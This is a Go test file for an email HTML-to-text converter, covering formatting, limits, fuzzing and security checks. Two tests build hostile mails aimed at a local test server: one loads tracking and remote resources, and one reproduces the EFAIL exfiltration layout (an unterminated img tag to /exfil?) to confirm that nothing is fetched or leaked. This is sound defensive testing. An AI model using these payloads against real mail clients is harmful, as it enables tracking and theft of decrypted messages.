package message

import (
	"errors"
	"flag"
	"fmt"
	goparser "go/parser"
	"go/token"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
)

// The golden tests share the package's -update flag (rewrite golden files)
// with the parser's: whichever test file declares it, this one reads it by
// name, and registers it only if nobody else did.
func init() {
	if flag.Lookup("update") == nil {
		flag.Bool("update", false, "rewrite golden files")
	}
}

func updatingGoldenFiles() bool {
	f := flag.Lookup("update")
	return f != nil && f.Value.String() == "true"
}

// TestHTMLToTextGolden converts realistic mails in testdata/render/*.html
// and compares with the .txt beside each (go test -run HTMLToTextGolden
// -update rewrites them).
func TestHTMLToTextGolden(t *testing.T) {
	t.Parallel()
	inputs, err := filepath.Glob(filepath.Join("testdata", "render", "*.html"))
	if err != nil || len(inputs) == 0 {
		t.Fatalf("no golden inputs: %v", err)
	}
	for _, in := range inputs {
		t.Run(filepath.Base(in), func(t *testing.T) {
			t.Parallel()
			src, err := os.ReadFile(in)
			if err != nil {
				t.Fatal(err)
			}
			got, err := HTMLToText(strings.NewReader(string(src)), nil)
			if err != nil {
				t.Fatal(err)
			}
			requireTerminalSafe(t, in, got, false)
			golden := strings.TrimSuffix(in, ".html") + ".txt"
			if updatingGoldenFiles() {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("%s differs from %s (go test -run HTMLToTextGolden -update rewrites it):\n--- got\n%s--- want\n%s", in, golden, got, want)
			}
		})
	}
}

func TestHTMLToText(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, in, want string }{
		{"empty", "", ""},
		{"only markup", "<html><head><title>t</title></head><body></body></html>", ""},
		{"white space collapsed", "<p>  a \n\t b  </p>", "a b\n"},
		{"paragraphs", "<p>one</p><p>two</p>", "one\n\ntwo\n"},
		{"unclosed paragraphs", "<p>one<p>two<div>three</div>", "one\n\ntwo\n\nthree\n"},
		{"br", "a<br>b<br/><br>c</br>d", "a\nb\n\nc\nd\n"},
		{"entities", "<p>&lt;tag&gt; &amp; &quot;q&quot; &eacute; &#x1F600; &nbsp;x</p>", "<tag> & \"q\" é 😀 x\n"},
		{"headings", "<h1>Top</h1><h3>Sub</h3>text", "# Top\n\n### Sub\n\ntext\n"},
		{"lists", "<ul><li>a<li>b<ol><li>c<li>d</ol></ul><ol start=9><li>e</ol>", "- a\n- b\n  1. c\n  2. d\n\n9. e\n"},
		{"list item continuation", "<ul><li>first<br>more</li></ul>", "- first\n  more\n"},
		{"blockquote", "<p>Hi</p><blockquote>q1<blockquote>q2</blockquote>q3</blockquote>end", "Hi\n\n> q1\n>\n>> q2\n>\n> q3\n\nend\n"},
		{"pre", "<pre>\n  a  b\n\n\tc\n</pre>after", "  a  b\n\n\tc\n\nafter\n"},
		{"pre in quote", "<blockquote><pre>x\n\ny</pre></blockquote>", "> x\n>\n> y\n"},
		{"table", "<table><tr><th>A</th><th>B</th></tr><tr><td>1</td><td>2</td></tr></table>", "A | B\n1 | 2\n"},
		{"table without closes", "<table><tr><td>1<td>2<tr><td>3<td>4</table>", "1 | 2\n3 | 4\n"},
		{"spacer cells leave no separator", "<table><tr><td>&nbsp;</td><td>x</td><td> </td><td>y</td></tr></table>", "x | y\n"},
		{"link", `see <a href="https://example.org/a?b=1&amp;c=2">the docs</a>.`, "see the docs [1].\n\nLinks:\n[1] https://example.org/a?b=1&c=2\n"},
		{"link text is its URL", `<a href="https://example.org/">https://example.org/</a> <a href="mailto:a@example.org">a@example.org</a>`, "https://example.org/ a@example.org\n"},
		{"same URL twice", `<a href="https://x.example/">one</a> <a href="https://x.example/">two</a>`, "one [1] two [1]\n\nLinks:\n[1] https://x.example/\n"},
		{"anchor links", `<a href="#top">top</a> <a name="x">x</a>`, "top x\n"},
		{"link around image", `<a href="https://x.example/"><img src="https://x.example/i.png" alt="Logo"></a>`, "[image: Logo] [1]\n\nLinks:\n[1] https://x.example/\n"},
		{"link with newline in href", "<a href=\"https://good.example\n.evil.example/\">good.example</a>", "good.example [1]\n\nLinks:\n[1] https://good.example.evil.example/\n"},
		{"image without alt", `x<img src="a.png">y`, "x [image] y\n"},
		{"dropped elements", "<script>alert(1)</script><style>p{}</style><noscript>ns</noscript><template><p>t</p></template><title>t</title>shown", "shown\n"},
		{"hidden content shown", `<div hidden>a</div><div style="display:none">b</div>`, "a\nb\n"},
		{"textarea", "<textarea>\nline1\nline2</textarea>", "line1\nline2\n"},
		{"hr", "a<hr>b", "a\n\n---\n\nb\n"},
		{"definition list", "<dl><dt>term</dt><dd>meaning</dd></dl>", "term\n  meaning\n"},
		{"unterminated tag at the end", `<p>x</p><img src="http://a.example/`, "x\n\n<img src=\"http://a.example/\n"},
		{"stray end tags", "</div></span>a</b></table>b", "ab\n"},
		{"self-closing non-void", "a<div/>b<span/>c", "a\nbc\n"},
		{"self-closing inside template", "<template><ul/><tr/><li/><blockquote/><pre/><a href=x/></template>x", "x\n"},
		{"inner list keeps the outer item open", "<ul><li>a<ul><li>b</ul>c<li>d</ul>", "- a\n  - b\n  c\n- d\n"},
		{"table closes a paragraph", "<p>a<table><tr><td>b<div>c</div></table>", "a\n\nb\nc\n"},
	} {
		got, err := HTMLToText(strings.NewReader(c.in), nil)
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		if got != c.want {
			t.Errorf("%s: HTMLToText(%q)\n got %q\nwant %q", c.name, c.in, got, c.want)
		}
	}
}

// requireDataOnly fails if values of type ty could carry behaviour: a
// function, an interface (an http.Client, a fetcher, a resolver), a channel.
func requireDataOnly(t *testing.T, ty reflect.Type) {
	t.Helper()
	switch ty.Kind() {
	case reflect.Func, reflect.Interface, reflect.Chan, reflect.UnsafePointer:
		t.Fatalf("%v can carry behaviour: the converter must take numbers and flags only", ty)
	case reflect.Pointer, reflect.Slice, reflect.Array:
		requireDataOnly(t, ty.Elem())
	case reflect.Map:
		requireDataOnly(t, ty.Key())
		requireDataOnly(t, ty.Elem())
	case reflect.Struct:
		for i := range ty.NumField() {
			requireDataOnly(t, ty.Field(i).Type)
		}
	}
}

// TestS07_HTMLNeverFetches: no remote content on open. The converter has
// no way to fetch (its options are numbers and flags, its code imports
// nothing that opens a connection or a file), and every resource URL of a
// hostile mail, pointing at a live local server, leaves that server
// untouched; resources show as markers and only <a> targets appear, as
// text in the list of links.
func TestS07_HTMLNeverFetches(t *testing.T) {
	t.Parallel()

	t.Run("API shape", func(t *testing.T) {
		requireDataOnly(t, reflect.TypeFor[HTMLOptions]())
		requireDataOnly(t, reflect.TypeFor[RenderOptions]())
		if got, want := reflect.TypeOf(HTMLToText).String(), "func(io.Reader, *message.HTMLOptions) (string, error)"; got != want {
			t.Errorf("HTMLToText is %s, want %s", got, want)
		}
	})

	t.Run("imports", func(t *testing.T) {
		allowed := map[string]bool{
			"bytes": true, "errors": true, "fmt": true, "io": true, "math": true, "strconv": true,
			"strings": true, "unicode/utf8": true, "golang.org/x/net/html": true, "golang.org/x/net/html/atom": true,
		}
		for _, file := range []string{"html.go", "render.go", "sanitize.go"} {
			f, err := goparser.ParseFile(token.NewFileSet(), file, nil, goparser.ImportsOnly)
			if err != nil {
				t.Fatal(err)
			}
			for _, imp := range f.Imports {
				if path, _ := strconv.Unquote(imp.Path.Value); !allowed[path] {
					t.Errorf("%s imports %s: rendering must not reach the network, files or processes", file, path)
				}
			}
		}
	})

	t.Run("hostile mail", func(t *testing.T) {
		var hits atomic.Int64
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			hits.Add(1)
		}))
		defer srv.Close()
		u := srv.URL
		mail := `<html><head>
<meta http-equiv="refresh" content="0; url=` + u + `/refresh">
<link rel="stylesheet" href="` + u + `/style.css"><link rel="prefetch" href="` + u + `/prefetch">
<link rel="dns-prefetch" href="` + u + `/dns"><base href="` + u + `/base/">
<style>@import url("` + u + `/import.css"); body { background: url(` + u + `/css-bg.png) }</style>
<script src="` + u + `/script.js"></script>
</head><body background="` + u + `/body-bg.png">
<table background="` + u + `/table-bg.png"><tr><td background="` + u + `/td-bg.png">cell</td></tr></table>
<div style="background-image:url('` + u + `/inline-bg.png')">styled</div>
<img src="` + u + `/pixel.gif" srcset="` + u + `/2x.gif 2x" alt="pixel">
<img src="cid:logo@example.org" alt="logo">
<picture><source srcset="` + u + `/source.webp"><img src="` + u + `/pic.png" alt="pic"></picture>
<iframe src="` + u + `/iframe"></iframe><frame src="` + u + `/frame">
<object data="` + u + `/object"></object><embed src="` + u + `/embed">
<video src="` + u + `/video.mp4" poster="` + u + `/poster.png"></video><audio src="` + u + `/audio.mp3"></audio>
<input type="image" src="` + u + `/input.png"><svg><image href="` + u + `/svg.png"/></svg>
<a href="` + u + `/link">a link</a>
</body></html>`
		out, err := HTMLToText(strings.NewReader(mail), nil)
		if err != nil {
			t.Fatal(err)
		}
		if n := hits.Load(); n != 0 {
			t.Fatalf("the server was asked %d times", n)
		}
		requireTerminalSafe(t, "output", out, false)
		for _, want := range []string{"[image: pixel]", "[image: logo]", "[iframe]", "[object]", "[embed]", "[video]", "[audio]", "a link [1]", "[1] " + u + "/link"} {
			if !strings.Contains(out, want) {
				t.Errorf("output lacks %q:\n%s", want, out)
			}
		}
		// The only URL shown is the link's, in the list of links.
		if n := strings.Count(out, u); n != 1 {
			t.Errorf("server URL shown %d times, want once (the <a> target):\n%s", n, out)
		}
		if strings.Contains(out, "url(") || strings.Contains(out, "cid:") {
			t.Errorf("style or resource URLs leaked into the text:\n%s", out)
		}
	})
}

// TestS01_HTMLExfiltrationFragmentsStayText builds EFAIL's direct
// exfiltration: multipart/mixed whose first HTML part ends inside an
// unterminated <img src=", whose second part is the decrypted secret, and
// whose third part closes the attribute. Rendered part by part, as
// RenderText requires, the open tag of part one is shown as text, the
// secret is shown as its own part and never becomes part of a URL, and
// nothing is fetched. Joining the parts (what vulnerable clients did)
// would have made the secret part of the image URL.
func TestS01_HTMLExfiltrationFragmentsStayText(t *testing.T) {
	t.Parallel()
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
	}))
	defer srv.Close()

	const secret = "SECRET-PLAINTEXT-launch-code-0000"
	open := `<html><body><p>Invoice attached.</p><img src="` + srv.URL + `/exfil?`
	raw := "From: eve@evil.example\r\nTo: alice@example.org\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"BOUNDARY\"\r\n\r\n" +
		"--BOUNDARY\r\nContent-Type: text/html\r\n\r\n" + open + "\r\n" +
		"--BOUNDARY\r\nContent-Type: text/plain\r\n\r\n" + secret + "\r\n" +
		"--BOUNDARY\r\nContent-Type: text/html\r\n\r\n\"></body></html>\r\n" +
		"--BOUNDARY--\r\n"
	m, err := Parse([]byte(raw), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Root.Children) != 3 {
		t.Fatalf("parsed %d parts, want 3", len(m.Root.Children))
	}
	var views []string
	for _, p := range m.Root.Children {
		text, err := m.Text(p)
		if err != nil {
			t.Fatal(err)
		}
		r, err := RenderText(p.MediaType, p.Params, []byte(text), nil)
		if err != nil {
			t.Fatal(err)
		}
		requireTerminalSafe(t, p.MediaType, r.Text, false)
		views = append(views, r.Text)
	}
	if !strings.Contains(views[0], "Invoice attached.") || !strings.Contains(views[0], `<img src="`+srv.URL+`/exfil?`) {
		t.Errorf("part 1 should show the unterminated tag as text: %q", views[0])
	}
	if strings.Contains(views[0], secret) || strings.Contains(views[2], secret) {
		t.Errorf("the secret leaked into an HTML part: %q", views)
	}
	if views[1] != secret+"\n" {
		t.Errorf("part 2 = %q, want the secret on its own", views[1])
	}
	if views[2] != "\">\n" {
		t.Errorf("part 3 = %q, want the closing fragment as text", views[2])
	}

	// What joining would do: the secret disappears into a URL. Still
	// nothing is fetched, and the URL is not shown.
	joined, err := HTMLToText(strings.NewReader(open+secret+`"></body></html>`), nil)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(joined, secret) || !strings.Contains(joined, "[image]") {
		t.Errorf("joined parts: %q", joined)
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the attacker's server was asked %d times", n)
	}
}

// repeatReader yields pattern forever, counting the bytes it gave.
type repeatReader struct {
	pattern string
	off     int
	read    int64
}

func (r *repeatReader) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		c := copy(p[n:], r.pattern[r.off:])
		n += c
		r.off = (r.off + c) % len(r.pattern)
	}
	r.read += int64(n)
	return n, nil
}

func requireHTMLLimit(t *testing.T, err error, what string, limit int) {
	t.Helper()
	var le *LimitError
	if !errors.As(err, &le) || le.What != what || le.Limit != limit {
		t.Fatalf("err = %v, want a *LimitError for %s %d", err, what, limit)
	}
}

func TestHTMLLimits(t *testing.T) {
	t.Parallel()

	t.Run("10,000 nested divs", func(t *testing.T) {
		t.Parallel()
		deep := strings.Repeat("<div>", 10000) + "x" + strings.Repeat("</div>", 10000)
		_, err := HTMLToText(strings.NewReader(deep), nil)
		requireHTMLLimit(t, err, "html depth", 512)
	})

	t.Run("10,000 nested blockquotes, lower limit", func(t *testing.T) {
		t.Parallel()
		deep := strings.Repeat("<blockquote>", 10000) + "x"
		_, err := HTMLToText(strings.NewReader(deep), &HTMLOptions{MaxDepth: 100})
		requireHTMLLimit(t, err, "html depth", 100)
	})

	t.Run("nesting at the limit", func(t *testing.T) {
		t.Parallel()
		deep := strings.Repeat("<span>", 512) + "x"
		if out, err := HTMLToText(strings.NewReader(deep), nil); err != nil || out != "x\n" {
			t.Fatalf("got %q, %v", out, err)
		}
	})

	t.Run("16 MiB with a 1 MiB cap", func(t *testing.T) {
		t.Parallel()
		r := &repeatReader{pattern: "<p>spam spam spam</p>\n"}
		_, err := HTMLToText(io.LimitReader(r, 16<<20), &HTMLOptions{MaxSize: 1 << 20})
		requireHTMLLimit(t, err, "html size", 1<<20)
		if r.read > 1<<20+64<<10 {
			t.Errorf("read %d bytes for a cap of 1 MiB", r.read)
		}
	})

	t.Run("16 MiB with the default cap", func(t *testing.T) {
		t.Parallel()
		r := &repeatReader{pattern: strings.Repeat("x", 4096)}
		_, err := HTMLToText(io.LimitReader(r, 16<<20), nil)
		requireHTMLLimit(t, err, "html size", 8<<20)
	})

	t.Run("input exactly at the cap", func(t *testing.T) {
		t.Parallel()
		in := strings.Repeat("a", 1000)
		if out, err := HTMLToText(strings.NewReader(in), &HTMLOptions{MaxSize: 1000}); err != nil || out != in+"\n" {
			t.Fatalf("got %d bytes, %v", len(out), err)
		}
	})

	t.Run("prefix amplification", func(t *testing.T) {
		t.Parallel()
		// Every two-byte line of the <pre> would carry ten quote
		// markers: 13 bytes out for 2 in.
		in := strings.Repeat("<blockquote>", 10) + "<pre>" + strings.Repeat("x\n", 1<<20)
		_, err := HTMLToText(strings.NewReader(in), &HTMLOptions{MaxSize: 3 << 20})
		requireHTMLLimit(t, err, "html output size", 12<<20)
	})

	t.Run("read error", func(t *testing.T) {
		t.Parallel()
		boom := errors.New("boom")
		_, err := HTMLToText(io.MultiReader(strings.NewReader("<p>x"), &errReader{boom}), nil)
		if !errors.Is(err, boom) {
			t.Fatalf("err = %v, want boom", err)
		}
	})
}

type errReader struct{ err error }

func (r *errReader) Read([]byte) (int, error) { return 0, r.err }

// TestHTMLImpliedEndTagsDoNotNest: end tags HTML lets one leave out do not
// count as nesting, so long but flat documents are not refused.
func TestHTMLImpliedEndTagsDoNotNest(t *testing.T) {
	t.Parallel()
	for name, in := range map[string]string{
		"p":     strings.Repeat("<p>para", 5000),
		"li":    "<ul>" + strings.Repeat("<li>item", 5000),
		"td/tr": "<table>" + strings.Repeat("<tr><td>a<td>b", 5000),
		"dt/dd": "<dl>" + strings.Repeat("<dt>t<dd>d", 5000),
		"a":     strings.Repeat("<a href=x>l", 5000),
		"h1-h6": strings.Repeat("<h1>a<h2>b", 5000),
	} {
		if _, err := HTMLToText(strings.NewReader(in), nil); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// htmlSeeds seed FuzzHTMLToText, with the golden inputs.
var htmlSeeds = []string{
	"",
	"<p>a<p>b<ul><li>c<li>d</ul><ol start=3><li>e</ol>",
	"<table><tr><td>1<td>2<tr><th>3</table>",
	"<blockquote><blockquote><pre>\n x\n\n y</pre></blockquote></blockquote>",
	"<a href='https://x.example/'>x<img alt=i></a><a href=#a>b</a><a href=\"mailto:a@b\">a@b</a>",
	"<script>x</script><style>y</style><template><p>t</template><noscript>n</noscript>z",
	"<p>\x1b[31m&#27;]8;;u\x07&#x202e;\r\u009b</p><pre>\r\n\x00</pre>",
	`<img src="http://x/`,
	"<svg><path d='M0'/><text>t</text></svg><math><mi>x</mi></math>",
	"<textarea>\n<b>x</b></textarea><xmp><i>y</i></xmp><plaintext><u>z",
	"<div/><span/><a href=x/><br/></br></p>",
	"<template><ul/><tr/><li/><blockquote/><pre/><a href=x/></template>x",
	"<p><button><span><span><div/><hr><li/><td/><dd/><tbody/></button></p>",
	"<ul><li><dl><dt>a<dd>b<li>c</ul><table><tbody><tr><td><table><tr><td>x</table><td>y<tbody><tr>z",
}

func FuzzHTMLToText(f *testing.F) {
	for _, s := range htmlSeeds {
		f.Add(s)
	}
	golden, _ := filepath.Glob(filepath.Join("testdata", "render", "*.html"))
	for _, g := range golden {
		b, err := os.ReadFile(g)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(string(b))
	}
	f.Fuzz(func(t *testing.T, s string) {
		opts := &HTMLOptions{MaxSize: 1 << 20, MaxDepth: 64}
		out, err := HTMLToText(strings.NewReader(s), opts)
		if err != nil {
			var le *LimitError
			if !errors.As(err, &le) {
				t.Fatalf("error that is not a limit: %v", err)
			}
			return
		}
		requireTerminalSafe(t, "HTMLToText", out, false)
		if len(out) > 6*4*opts.MaxSize {
			t.Fatalf("%d bytes out of %d in", len(out), len(s))
		}
		if out != "" && (!strings.HasSuffix(out, "\n") || strings.HasPrefix(out, "\n")) {
			t.Fatalf("output not a clean block of lines: %q", out)
		}
	})
}

func TestHTMLFuzzSeedsNotEmpty(t *testing.T) {
	golden, _ := filepath.Glob(filepath.Join("testdata", "render", "*.html"))
	if len(htmlSeeds) == 0 || len(golden) == 0 {
		t.Fatalf("FuzzHTMLToText has %d seeds and %d golden inputs", len(htmlSeeds), len(golden))
	}
}

func BenchmarkHTMLToText(b *testing.B) {
	src, err := os.ReadFile(filepath.Join("testdata", "render", "newsletter.html"))
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := HTMLToText(strings.NewReader(string(src)), nil); err != nil {
			b.Fatal(err)
		}
	}
}

func ExampleHTMLToText() {
	mail := `<p>Your invoice is <a href="https://pay.example/i/42">ready</a>.</p>
<img src="https://pay.example/logo.png" alt="Acme Pay">
<ul><li>Amount: &euro;12</li><li>Due: Friday</li></ul>`
	text, err := HTMLToText(strings.NewReader(mail), nil)
	if err != nil {
		panic(err)
	}
	fmt.Print(text)
	// Output:
	// Your invoice is ready [1].
	//
	// [image: Acme Pay]
	//
	// - Amount: €12
	// - Due: Friday
	//
	// Links:
	// [1] https://pay.example/i/42
}
